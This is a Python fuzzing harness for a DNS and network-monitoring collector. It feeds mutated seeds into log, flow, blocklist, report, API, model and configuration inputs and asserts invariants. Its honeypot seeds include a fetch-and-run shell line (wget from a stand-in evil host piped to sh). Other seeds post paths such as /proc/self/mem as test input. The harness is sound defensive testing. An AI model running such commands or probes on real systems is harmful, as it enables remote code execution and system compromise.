"""The doors of the collector: what comes in at each, and what has to hold whatever comes.

A door takes one input at a time. It raises ``AssertionError`` where something does not hold, and lets through whatever
the collector fails of; both are findings of the campaign.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import shutil
import time
import urllib.parse
from collections.abc import Callable, Sequence
from concurrent.futures import Future
from contextlib import suppress
from dataclasses import replace
from datetime import timedelta
from functools import partial
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import yaml

from dnsvigil.api.app import api
from dnsvigil.collector.application import application
from dnsvigil.config.collector import Api, Config, NetflowSource, load_config
from dnsvigil.config.yaml_file import ConfigError
from dnsvigil.engines.tuples import TupleReader
from dnsvigil.httpd.web_config import load_web_config
from dnsvigil.ingest.flows import FlowsPart
from dnsvigil.ingest.intake import Intake
from dnsvigil.ingest.records import INGESTED, SKIPPED
from dnsvigil.ingest.scans import Scans
from dnsvigil.learning.default import default_model
from dnsvigil.learning.models import ModelError
from dnsvigil.learning.namescore import NameModel
from dnsvigil.records import utc_now
from dnsvigil.sources.blocklists.domain_lists import DomainLists
from dnsvigil.sources.netflow.follower import pending_file, resolve_submitted
from dnsvigil.sources.netflow.process import NFDumpError
from dnsvigil.sources.shadowserver.report import read_report
from dnsvigil.sources.zeek.cursors import Cursors
from dnsvigil.sources.zeek.log_types import LOG_TYPES
from dnsvigil.sources.zeek.pending import pending_log
from dnsvigil.sources.zeek.reader import read_batches
from dnsvigil.store.findings import Findings, findings_in
from dnsvigil.store.flows import FlowTables
from dnsvigil.store.passive_dns import PassiveDns
from dnsvigil.store.store import Store
from exporters.flowfiles import SLOT, dialogues, many, write_flows
from exporters.running import line
from exporters.shadowserver import report
from exporters.shadowserver import row as scan_row
from exporters.zeeklogs import package_header, package_json, package_line
from fuzz.mutations import mutate
from lab.zeeklog import header

GOOD_RECORDS = 5


class Door:
    """One way into the collector. ``folder`` is the door's own, and empty."""

    seeds: Sequence[bytes]

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def make(self, rng: Any) -> bytes:
        """Return an input."""
        return mutate(self.seeds, rng)

    def take(self, data: bytes) -> None:
        """Let one input in."""
        raise NotImplementedError

    def close(self) -> None:
        """Free what the door holds."""


class _Logs(Door):
    """A log, and a good one beside it: every record is accounted for, and the good ones are all ingested."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self._config = Config()
        self._store = Store(folder / "state")
        self._intake = Intake(self._store, self._config)
        self._good = 0

    def take(self, data: bytes) -> None:
        mutated, good = self.folder / "sensor" / "dns.log", self.folder / "good" / "dns.log"
        for path in (mutated, good):
            path.parent.mkdir(exist_ok=True)
        mutated.write_bytes(data)
        self._good += 1
        good.write_bytes(header(self._good) + line(time.time(), f"www.good{self._good % 7}.example") * GOOD_RECORDS)
        self._read(mutated)
        assert self._read(good) == GOOD_RECORDS, "good records beside the mutated ones are lost"

    def _read(self, path: Path) -> int:
        """Return how many records went in."""
        file = pending_log(path, Cursors([]))
        found = 0
        for batch in read_batches(path, file.cursor, True, file.log_type):
            before = self._counted()
            skipped = self._intake.put([batch])[0].skipped
            ingested, counted = (now - then for now, then in zip(self._counted(), before, strict=True))
            assert counted == skipped.total(), "skipped records are not counted"
            assert ingested + counted == batch.read, "a record is neither ingested nor skipped"
            found += ingested
        return found

    def _counted(self) -> tuple[int, int]:
        ingested, skipped = (sum(row[-1] for row in table.rows(self._store.rows)) for table in (INGESTED, SKIPPED))
        return ingested, skipped

    def close(self) -> None:
        self._intake.snapshot()
        self._intake.close()
        self._store.close()


class ZeekTsv(_Logs):
    seeds = (
        header(1_700_000_000) + b"".join(line(1_700_000_000 + n, f"www.a{n}.example") for n in range(8)),
        gzip.compress(header(1_700_000_000) + line(1_700_000_000, "www.a.example") * 3),
        b"\0" * 100 + header(1_700_000_000) + line(1_700_000_000, "www.a.example"),
    )


_JSON = {"uid": "C1", "id.orig_h": "192.0.2.1", "id.orig_p": 4000, "id.resp_h": "192.0.2.53", "id.resp_p": 53} | {
    "proto": "udp", "query": "www.a.example", "qtype": 1, "rcode": 0, "rtt": 0.01, "answers": ["192.0.2.9"],
    "TTLs": [60.0],
}  # fmt: skip


class ZeekJson(_Logs):
    seeds = tuple(
        b"".join(json.dumps({"ts": ts, **_JSON, "trans_id": number}).encode() + b"\n" for number in range(6))
        for ts in (1_700_000_000.25, "2026-01-31T12:00:00.000000Z")
    )


class PackageLogs(_Logs):
    seeds = tuple(
        text
        for log_type in LOG_TYPES[1:]
        for text in (package_header(log_type.path) + package_line(log_type.path) * 3, package_json(log_type.path) * 3)
    )


class HoneypotLogs(_Logs):
    seeds = tuple(
        json.dumps({"timestamp": "2026-01-31T12:00:00.000000Z", "src_ip": "192.0.2.1", **record}).encode() + b"\n"
        for record in (
            {
                "eventid": "cowrie.command.input",
                "session": "s1",
                "input": "cd /tmp; wget http://a.evil-x.com/x -O- | sh",
            },
            {"eventid": "cowrie.session.file_download", "session": "s1", "url": "http://[2001:db8::1]/x"},
            {"connection": {"type": "accept"}, "credentials": [{}], "ftp": {"commands": [{"command": "tftp 1.1.1.1"}]}},
            {"origin": "dionaea.download.offer", "data": {"url": "http://a.evil-x.com", "connection": {}}},
        )
    )


class FlowFiles(Door):
    """A flow file, and at times a good one, of which every flow counts."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self._begin = int(time.time()) // SLOT * SLOT - 86_400
        made = folder / "made"
        self.seeds = tuple(
            write_flows(made, self._begin, flows).read_bytes() for flows in (dialogues(20), many()[:1], dialogues(3))
        )
        self._store = Store(folder / "state")
        self._flows = FlowsPart(self._store, Config())
        self._good = 0

    def take(self, data: bytes) -> None:
        path = self.folder / "flows" / "nfcapd.mutated"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
        with suppress(NFDumpError, OSError):
            self._flows.ingest(replace(pending_file(path), settled=True))
        self._good += 1
        if self._good % 10 == 0:
            good = write_flows(path.parent, self._begin - SLOT * self._good, dialogues(7), name="good")
            found = self._flows.ingest(replace(pending_file(good), settled=True))
            assert (found.flows, found.damage) == (14, None), "a good file beside the mutated ones is not read whole"
            self._flows.flush()
            self._flows.snapshot()

    def close(self) -> None:
        self._flows.close()
        self._store.close()


class Lists(Door):
    """A list, and a good one beside it that stays in use."""

    seeds = (
        b"# a list\nbad.example\nworse.example # comment\n0.0.0.0 hosts.example\n",
        b"uuid,event_id,category,type,value,comment,to_ids,date\n"
        b"1,2,x,domain,bad.example,,1,2026\n1,2,x,ip-dst,192.0.2.1,,1,2\n",
        b"$TTL 300\n@ IN SOA localhost. root.localhost. (1 2 3 4 5)\n  IN NS localhost.\n"
        b"bad.example CNAME .\n*.bad.example IN CNAME .\n",
        gzip.compress(b"bad.example\n" * 50),
    )

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self._store = Store(folder / "state")
        self._folder = folder / "lists"
        self._folder.mkdir()
        (self._folder / "good.txt").write_text("known.example\n")
        self._lists = DomainLists(self._folder, set_aside=self._store.set_aside)

    def take(self, data: bytes) -> None:
        (self._folder / "mutated.txt").write_bytes(data)
        self._lists.reload()
        assert "www.known.example" in self._lists.match(["www.known.example"]), "the good list is out of use"
        assert self._store.set_aside.counts()["list"] == 0, "a list failed unexpectedly"

    def close(self) -> None:
        self._store.close()


class _Here:
    """What is behind the API, all in this thread."""

    def __init__(self, store: Store, sources: list[NetflowSource]) -> None:
        self.store, self.sources = store, sources
        self.tuples = TupleReader(lambda: store)

    def read(self, query: str, *bound: Any) -> list[Any]:
        return self.store.rows(query, *bound)

    def submit(self, task: Callable[[Store], Any]) -> Future[Any]:
        done: Future[Any] = Future()
        try:
            done.set_result(task(self.store))
        except Exception as error:
            done.set_exception(error)
        return done

    def submit_files(self, files: list[tuple[Path, str | None]]) -> Future[None]:
        for path, _ in files:
            assert resolve_submitted(path, self.sources).is_relative_to(self.sources[0].path)
        return self.submit(lambda _: None)


class Reports(Door):
    """A report of scans, and a good one beside it: rows are used or skipped, and what is in the store is hosts."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self._good = report(folder, scan_row(utc_now(), "192.0.2.1"), scan_row("no time", "192.0.2.2"))
        self.seeds = [self._good.read_bytes(), b"\xef\xbb\xbf" + self._good.read_bytes()]
        self._store = Store(folder / "state")
        self._scans = Scans(self._store, Config())

    def take(self, data: bytes) -> None:
        path = self.folder / "mutated.csv"
        path.write_bytes(data)
        found = read_report(path, utc_now() + timedelta(days=1))
        assert found.rows or found.skipped or found.problem or data.count(b"\n") < 2, "nothing became of a report"
        self._scans.ingest(path)
        assert read_report(self._good, utc_now() + timedelta(days=1)).rows == 1
        for (host,) in self._store.rows("SELECT host FROM scanned_hosts"):
            ip_address(host)

    def close(self) -> None:
        self._store.close()


class _Posts(Door):
    path: str

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self._store = Store(folder / "state")
        Findings(self._store)
        FlowTables(self._store, 10**9)
        sources = [NetflowSource(folder / "flows")]
        sources[0].path.mkdir()
        self._client = application([api(_Here(self._store, sources), Config())]).test_client()

    def take(self, data: bytes) -> None:
        status = self._client.post(self.path, data=data, content_type="application/json").status_code
        assert status in {200, 201, 202, 400, 404}, f"status {status}"
        assert self._client.get("/api/findings").status_code == 200
        unreadable: list[str] = []
        findings_in(partial(self._store.rows), "open", unreadable=lambda which, _: unreadable.append(which))
        assert not unreadable, "a finding was taken that cannot be read"

    def close(self) -> None:
        self._store.close()


class PostedFindings(_Posts):
    path = "/api/findings"
    seeds = tuple(
        json.dumps({"detector": "x", "subject_type": "client", "subject": "192.0.2.1", "score": 0.5, "severity": "info",
                    "evidence": evidence, "time": "2026-03-01T12:00:00Z"}).encode()
        for evidence in ({}, {"domains": ["a.example"], "n": 1.5, "deep": [[[{"a": [1, None, True]}]]]})
    )  # fmt: skip


class HandedOver(_Posts):
    path = "/api/flows/files"
    seeds = (
        b'{"files": [{"path": "/var/cache/nfdump/nfcapd.202603011200", "exporter": "edge"}]}',
        b'{"files": [{"path": "/dev/zero"}, {"path": "/dev/ptmx", "exporter": null}, {"path": "/proc/self/mem"}]}',
    )


class Lookups(Door):
    """Paths and parameters of look-ups in passive DNS, and the same text as a question among many."""

    seeds = (
        b"lookup/rrset/name/*.example.com/A/com?limit=5&offset=1&time_first_after=-86400",
        b"summarize/rdata/ip/192.0.2.0,24?max_count=3&time_last_before=1700000000",
        b"lookup/rdata/ip/2001:db8::1-2001:db8::ff/AAAA?humantime=t",
        b"lookup/rdata/raw/076578616d706c6503636f6d00/TYPE65280",
        b"lookup/rrset/name/b\xc3\xbccher.%FF%5C255.+/ANY-DNSSEC",
    )

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self._store = Store(folder / "state")
        PassiveDns(self._store)
        behind = _Here(self._store, [])
        self._client = application([api(behind, Config(api=Api(client_addresses="everyone")))]).test_client()

    def take(self, data: bytes) -> None:
        path = urllib.parse.quote(data, safe="/?&=%*+,:-")
        for target in (f"/dnsdb/v2/{path}", f"/pdns/query/{path}"):
            with self._client.get(target) as answer:
                assert answer.status_code in {200, 400, 404, 416}, f"status {answer.status_code}"
                if answer.mimetype == "application/x-ndjson" and target.startswith("/dnsdb"):
                    assert json.loads(answer.data.splitlines()[-1]) == {"cond": "succeeded"}
                else:
                    assert answer.data.isascii()
        query = data.decode("utf-8", "replace")
        with self._client.post("/api/pdns/lookup", json={"queries": [query, "example.com"]}) as answer:
            assert answer.status_code == 200
            assert json.loads(answer.data.splitlines()[-1]) == {"cond": "succeeded"}

    def close(self) -> None:
        self._store.close()


class Models(Door):
    """A model's files; often with hashes that fit, as whoever may write there can make them."""

    def __init__(self, folder: Path) -> None:
        super().__init__(folder)
        self._good = default_model()
        self._facts, self._arrays = ((self._good / name).read_bytes() for name in ("model.json", "arrays.npz"))
        self.seeds = (b"facts" + self._facts, b"array" + self._arrays[:60_000])

    def take(self, data: bytes) -> None:
        model = self.folder / "model"
        model.mkdir(exist_ok=True)
        which, content = data[:5], data[5:]
        facts, arrays = self._facts, self._arrays
        if which == b"array":
            arrays = content + self._arrays[60_000:]
        else:
            facts = content
        if len(data) % 2:
            facts = _resealed(facts, arrays)
        (model / "model.json").write_bytes(facts)
        (model / "arrays.npz").write_bytes(arrays)
        with suppress(ModelError):
            NameModel.load(model)


def _resealed(facts: bytes, arrays: bytes) -> bytes:
    try:
        content = json.loads(facts)
        content |= {"arrays": hashlib.sha256(arrays).hexdigest()}
        content.pop("digest", None)
        text = json.dumps(content, sort_keys=True).encode()
        return json.dumps({**content, "digest": hashlib.sha256(text).hexdigest()}).encode()
    except (ValueError, TypeError, RecursionError):
        return facts


class _Files(Door):
    read: Callable[[Path], object]

    def take(self, data: bytes) -> None:
        path = self.folder / "file.yml"
        path.write_bytes(data)
        try:
            type(self).read(path)
        except ConfigError as error:
            assert str(path) in str(error)


class Configurations(_Files):
    read = staticmethod(load_config)
    seeds = (
        b'listen: "[::1]:9953"\nsources:\n  zeek:\n    - {path: /var/log/zeek/*/current, sensor: fra}\n'
        b"  netflow:\n    - path: /data/live/*\nstore: {retention: 7d, max_size: 5GiB}\n",
        b"servers: {top: 3, configured: [192.0.2.53, {name: cache1, addresses: [192.0.2.54]}]}\nzones:\n  top: 10\n"
        b"  configured:\n    - name: example.com\n      failure_ratio_threshold: 0.2\n"
        b"flows:\n  networks: [192.0.2.0/24]\n  thresholds:\n    - {measure: bytes, above: 1e9}\n"
        b"detectors: {thresholds: {malware: 0.7}, top: 5}\n",
    )


class WebConfigurations(_Files):
    read = staticmethod(load_web_config)
    seeds = (
        yaml.safe_dump({"basic_auth_users": {"ops": "$2b$04$" + "a" * 53}}).encode(),
        b"tls_server_config:\n  cert_file: a.pem\n  key_file: a.key\n  client_auth_type: RequireAndVerifyClientCert\n"
        b"  client_ca_file: ca.pem\n  min_version: TLS12\n  cipher_suites: [TLS_AES_128_GCM_SHA256]\n"
        b"http_server_config:\n  headers: {X-Frame-Options: deny}\n",
    )


DOORS: dict[str, type[Door]] = {
    "zeek-tsv": ZeekTsv,
    "zeek-json": ZeekJson,
    "package-logs": PackageLogs,
    "honeypot-logs": HoneypotLogs,
    "lists": Lists,
    "reports": Reports,
    "findings": PostedFindings,
    "hand-over": HandedOver,
    "look-ups": Lookups,
    "models": Models,
    "configuration": Configurations,
    "web-configuration": WebConfigurations,
} | ({"nfcapd": FlowFiles} if shutil.which("nfdump") else {})
